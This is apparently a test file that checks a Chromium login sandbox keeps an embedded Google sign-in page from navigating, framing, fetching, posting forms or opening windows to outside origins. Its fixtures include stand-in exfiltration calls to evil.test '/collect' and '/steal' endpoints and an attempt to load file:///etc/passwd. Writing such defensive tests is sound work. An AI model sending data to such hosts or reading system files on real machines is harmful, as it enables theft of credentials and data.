/**
 * The login policy enforced by the Chromium adapter in a real browser: the page (on the emulator's
 * accounts.google.com sign-in form) tries to leave by every route — open(), links, location changes,
 * server redirects, sub-frames, forms, fetch, window.open, permissions — and gets nowhere. Each refusal is
 * observed as an event (the adapter's refusal record, the popup closing, Chromium's console message), never
 * after a sleep, and the emulator's request log shows nothing got through.
 */
import type { ConsoleMessage, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { LoginUrlRefusedError } from '../../../src/auth/login/login-errors.ts';
import { GOOGLE_SIGN_IN_ORIGINS, LABS_SIGN_IN_URL, createLoginPolicy, type LoginPolicy } from '../../../src/auth/login/login-policy.ts';
import type { UserAgentStrategy } from '../../../src/auth/login/user-agent-strategy.ts';
import type { ChromiumLoginSurface } from '../../support/accounts-chromium-page.ts';
import { HOSTILE_PAGE_NAVIGATIONS, HOSTILE_URLS } from '../../support/accounts-hostile-urls.ts';
import { isChromiumOwnRequest } from '../../support/chromium.ts';
import { ChromiumLoginSurfaceProvider } from '../../support/chromium-login-surface.ts';
import { SIGN_IN_FORM } from '../../support/emulator/index.ts';
import { withEmulator } from '../../support/network.ts';

const env = withEmulator();
let surfaces: ChromiumLoginSurfaceProvider;
let accounts = 0;

beforeAll(async () => {
  surfaces = await ChromiumLoginSurfaceProvider.launch({ emulator: env.emu, platform: 'linux' });
});
afterAll(async () => {
  await surfaces?.close();
});
afterEach(async () => {
  await surfaces.reset();
});

function policy(userAgent: UserAgentStrategy = 'electron', origins: readonly string[] = GOOGLE_SIGN_IN_ORIGINS): LoginPolicy {
  return createLoginPolicy(origins, userAgent);
}

/** A visible surface showing the emulator's Google sign-in form (an allowed page the test then plays). */
async function onSignInForm(loginPolicy: LoginPolicy = policy()): Promise<{ surface: ChromiumLoginSurface; page: Page }> {
  accounts += 1;
  const surface = await surfaces.create({ accountId: `${accounts}`.padStart(24, '0'), visible: true, policy: loginPolicy });
  await surface.open(LABS_SIGN_IN_URL);
  await surface.page.waitForSelector(`#${SIGN_IN_FORM.formId}`);
  env.emu.resetLog();
  return { surface, page: surface.page };
}

/** What reached the emulator from the browser, minus Chromium's own background probes. */
function browserRequests(): string[] {
  return env.emu.requests.all().filter((entry) => !isChromiumOwnRequest(entry)).map((e) => `${e.host}${e.path}`);
}

function consoleMessage(page: Page, pattern: RegExp): Promise<ConsoleMessage> {
  return page.waitForEvent('console', { predicate: (message) => pattern.test(message.text()) });
}

describe(`policy on the Chromium adapter (${HOSTILE_URLS.length} refused by open(), then the page tries)`, () => {
  it('open() refuses every hostile target before any request', async () => {
    const { surface, page } = await onSignInForm();
    const before = page.url();
    for (const { url } of HOSTILE_URLS) await expect(surface.open(url), url).rejects.toBeInstanceOf(LoginUrlRefusedError);
    expect(page.url()).toBe(before);
    expect(browserRequests()).toEqual([]);
  });

  it.each(HOSTILE_PAGE_NAVIGATIONS)('a page navigating to %s is stopped and stays where it was', async (url) => {
    const { page } = await onSignInForm();
    const before = page.url();
    const refused = surfaces.nextBlocked(url);
    await page.evaluate((target) => {
      location.href = target;
    }, url);
    expect(await refused).toMatchObject({ resourceType: 'Document', redirect: false, popup: false });
    expect(await page.evaluate(() => location.href)).toBe(before);
    expect(browserRequests()).toEqual([]);
    expect(surfaces.openedExternally).toEqual([]);
  });

  it('data: and file: top-level navigations go nowhere', async () => {
    const { page } = await onSignInForm();
    const before = page.url();
    const dataRefused = consoleMessage(page, /Not allowed to navigate top frame to data URL/);
    await page.evaluate(() => {
      location.href = 'data:text/html,<h1>phish</h1>';
    });
    await dataRefused;
    const fileRefused = consoleMessage(page, /Not allowed to load local resource: file:\/\/\/etc\/passwd/);
    await page.evaluate(() => {
      location.href = 'file:///etc/passwd';
    });
    await fileRefused;
    expect(await page.evaluate(() => location.href)).toBe(before);
  });

  it('a server redirect to an origin outside the list is stopped at the hop', async () => {
    accounts += 1;
    const labsOnly = policy('electron', ['https://labs.google']);
    const surface = await surfaces.create({ accountId: `${accounts}`.padStart(24, '0'), visible: true, policy: labsOnly });
    env.emu.resetLog();
    const refused = surfaces.nextBlocked('https://accounts.google.com/o/oauth2/v2/auth');
    await surface.open(LABS_SIGN_IN_URL);
    expect(await refused).toMatchObject({ resourceType: 'Document', redirect: true });
    expect(browserRequests()).toEqual(['labs.google/fx/api/auth/signin/google']);
    expect(surface.page.url()).toBe('about:blank');
  });

  it('sub-frames, form posts and fetch to other origins are refused', async () => {
    const { page } = await onSignInForm();
    const frame = surfaces.nextBlocked('https://evil.test/frame');
    await page.evaluate(() => {
      const iframe = document.createElement('iframe');
      iframe.src = 'https://evil.test/frame';
      document.body.append(iframe);
    });
    expect(await frame).toMatchObject({ resourceType: 'Document', popup: false });

    const fetched = await page.evaluate(() => fetch('https://evil.test/collect', { mode: 'no-cors' }).then(() => 'sent', () => 'refused'));
    expect(fetched).toBe('refused');
    expect(surfaces.blocked.find((blocked) => blocked.url === 'https://evil.test/collect')).toMatchObject({ resourceType: 'XHR' });

    const posted = surfaces.nextBlocked('https://labs.google.evil.test/steal');
    await page.evaluate(() => {
      const form = document.getElementById('signin-form') as HTMLFormElement;
      form.action = 'https://labs.google.evil.test/steal';
      form.submit();
    });
    expect(await posted).toMatchObject({ resourceType: 'Document' });
    expect(browserRequests()).toEqual([]);
  });

  it('window.open and target=_blank never open a window; outside https pages go to the system browser', async () => {
    const { page } = await onSignInForm();
    // Outside the list (to the system browser), inside it (dropped), and not https (dropped).
    for (const url of ['https://evil.test/phish', 'https://labs.google/fx/popup', 'http://labs.google.evil.test/']) {
      const refused = surfaces.nextBlocked(url);
      await page.evaluate((target) => void window.open(target), url);
      expect(await refused).toMatchObject({ resourceType: 'Document', popup: true });
    }
    const linkRefused = surfaces.nextBlocked('https://support.google.com/accounts');
    await page.evaluate(() => {
      const anchor = Object.assign(document.createElement('a'), { href: 'https://support.google.com/accounts', target: '_blank' });
      document.body.append(anchor);
      anchor.click();
    });
    expect(await linkRefused).toMatchObject({ popup: true });
    expect(surfaces.openedExternally).toEqual(['https://evil.test/phish', 'https://support.google.com/accounts']);
    expect(await surfaces.openPages()).toEqual([page.url()]);
    expect(browserRequests()).toEqual([]);
  });

  it('every permission is denied', async () => {
    const { page } = await onSignInForm();
    const answers = await page.evaluate(async () => {
      const states: Record<string, string> = {};
      for (const name of ['geolocation', 'notifications', 'camera', 'microphone', 'midi', 'clipboard-read', 'persistent-storage']) {
        states[name] = (await navigator.permissions.query({ name } as unknown as PermissionDescriptor)).state;
      }
      states.requestNotifications = await Notification.requestPermission();
      states.getCurrentPosition = await new Promise<string>((resolve) => {
        navigator.geolocation.getCurrentPosition(() => resolve('granted'), (error) => resolve(`error ${error.code}`));
      });
      return states;
    });
    expect(answers).toEqual({
      geolocation: 'denied', notifications: 'denied', camera: 'denied', microphone: 'denied', midi: 'denied',
      'clipboard-read': 'denied', 'persistent-storage': 'denied', requestNotifications: 'denied', getCurrentPosition: 'error 1',
    });
  });
});

describe('user-agent strategies on the wire', () => {
  async function signInPageRequests(userAgent: UserAgentStrategy): Promise<Record<string, string>> {
    const { surface } = await onSignInForm(policy(userAgent));
    env.emu.resetLog();
    await surface.open(LABS_SIGN_IN_URL);
    await surface.page.waitForSelector(`#${SIGN_IN_FORM.formId}`);
    const sent: Record<string, string> = {};
    for (const entry of env.emu.requests.all()) sent[entry.host] ??= entry.headers['user-agent'] ?? '';
    return sent;
  }

  it('firefox-on-google-sign-in: a Firefox UA to accounts.google.com only', async () => {
    const sent = await signInPageRequests('firefox-on-google-sign-in');
    expect(sent['accounts.google.com']).toBe('Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0');
    expect(sent['labs.google']).toMatch(/HeadlessChrome\//);
  });

  it('chrome: a plain Chrome UA everywhere', async () => {
    const sent = await signInPageRequests('chrome');
    for (const host of ['labs.google', 'accounts.google.com']) {
      expect(sent[host]).toMatch(/^Mozilla\/5\.0 \(X11; Linux x86_64\) AppleWebKit\/537\.36 \(KHTML, like Gecko\) Chrome\/\d+\.0\.0\.0 Safari\/537\.36$/);
    }
  });
});
